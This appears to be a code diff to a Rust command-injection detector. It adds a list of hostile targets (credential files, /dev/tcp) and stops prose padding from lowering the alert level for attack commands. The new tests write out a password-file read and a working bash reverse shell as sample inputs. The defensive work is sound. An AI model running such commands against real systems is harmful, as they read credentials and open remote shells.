@@ -70,6 +70,9 @@ const COMMANDS: &[(&str, Class, bool)] = &[
 /// Prefixes that run the next word as the command.
 const WRAPPERS: &[&str] = &["sudo", "nohup", "exec", "time", "command", "xargs", "eval"];
 
+/// Targets of an attack rather than of an admin's script.
+const HOSTILE: &[&str] = &["/etc/passwd", "/etc/shadow", "/proc/self/environ", "/dev/tcp/", "/dev/udp/", "/.ssh/id_"];
+
 const SENSITIVE: &[&str] = &[
     "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/issue", "/etc/hostname",
     "/proc/self", "/dev/tcp/", "/dev/udp/", "/root/", "/.ssh", "/var/www", "/tmp/",
@@ -91,6 +94,9 @@ struct Candidate {
     obfuscated: bool,
     /// A clear attack argument: sensitive path, reverse shell, download into a shell.
     strong: bool,
+    /// An argument no pasted script needs either: credentials files, `/dev/tcp`, a reverse
+    /// shell, a download piped into a shell. Prose around it does not lower its level.
+    hostile: bool,
     /// The value is nothing but this bare, distinctive command.
     lone_distinct: bool,
 }
@@ -152,10 +158,12 @@ impl Check for ShellUnix {
 }
 
 fn grade(c: &Candidate, long: bool) -> (&'static str, u8) {
-    // Pasted scripts in chat messages carry markdown escapes (`\_`) and quoting that looks
-    // like disguise, so even an obfuscated command in long text or prose waits for level 2.
+    // In prose or long pasted code a command is usually being discussed, so it waits for
+    // level 2 — but not a hostile one (credentials files, a reverse shell, a download into a
+    // shell) after a separator: padding a payload with English words must not buy it a pass.
+    let demote = long && !(c.hostile && c.opener != Opener::Start);
     if c.obfuscated {
-        return ("command-injection:unix-obfuscated", if long { 2 } else { 1 });
+        return ("command-injection:unix-obfuscated", if demote { 2 } else { 1 });
     }
     let reason = if c.opener == Opener::Subst { "command-injection:unix-substitution" } else { "command-injection:unix-command" };
     let level = match c.opener {
@@ -163,7 +171,7 @@ fn grade(c: &Candidate, long: bool) -> (&'static str, u8) {
         Opener::Start => 2,
         _ => 1,
     };
-    (reason, if long { level.max(2) } else { level })
+    (reason, if demote { level.max(2) } else { level })
 }
 
 fn starts_with_command(text: &[u8]) -> bool {
@@ -356,9 +364,10 @@ fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: 
         || class == Class::Shell && arg(0) == b"-i";
     let interp_code = class == Class::Shell && matches!(arg(0), b"-c" | b"-e" | b"-r");
     let strong = sensitive || reverse_shell || interp_code || piped_to_shell || absolute;
+    let hostile = reverse_shell || piped_to_shell || args.iter().any(|&(s, e)| HOSTILE.iter().any(|p| contains(&t[s..e], p.as_bytes())));
     let whole_value = seg_end >= n && t[..i].iter().all(|c| c.is_ascii_whitespace());
     let lone_distinct = distinct && whole_value && plain == 0;
-    Some((Candidate { opener, obfuscated, strong, lone_distinct }, end.max(i + 1)))
+    Some((Candidate { opener, obfuscated, strong, hostile, lone_distinct }, end.max(i + 1)))
 }
 
 #[derive(Clone, Copy, PartialEq, Debug)]
@@ -459,9 +468,14 @@ pub fn is_long_or_prose(text: &[u8]) -> bool {
     text.len() > 300 && tokens >= 30 || function >= 4 || function >= 2 && tokens >= 10
 }
 
-/// A value that opens with a script construct is a pasted script, not a value broken out of.
+/// A value that opens with a script construct is a pasted script, not a value broken out of;
+/// one that opens with `{` or `[` and spans lines is a document (a GraphQL query, pretty JSON)
+/// whose lines are field names, not commands.
 fn starts_script(text: &[u8]) -> bool {
     let start = text.trim_ascii_start();
+    if start.first().is_some_and(|&c| c == b'{' || c == b'[') && text.iter().filter(|&&c| c == b'\n').count() >= 2 {
+        return true;
+    }
     [&b"#!"[..], b"while ", b"for ", b"if [", b"until ", b"case ", b"function ", b"do "].iter().any(|k| start.starts_with(k))
 }
 
@@ -484,5 +498,15 @@ mod tests {
             assert_eq!(level(s), None, "{s}");
         }
         assert_ne!(level("curl -X GET -H \"Authorization: Bearer $TOKEN\" \"https://api.example.com/v2/x\""), Some(1));
+    }
+
+    /// English padding around a hostile command does not lower its level (an attacker who
+    /// reads this file would otherwise add four function words); a GraphQL document's field
+    /// lines are not commands.
+    #[test]
+    fn prose_padding_is_no_pass() {
+        assert_eq!(level("please can you tell me what is the weather like; cat /etc/passwd"), Some(1));
+        assert_eq!(level("the a to of and is it 8.8.8.8 && bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), Some(1));
+        assert_ne!(level("{\n  id\n  firstName\n  lastName\n}"), Some(1));
     }
 }
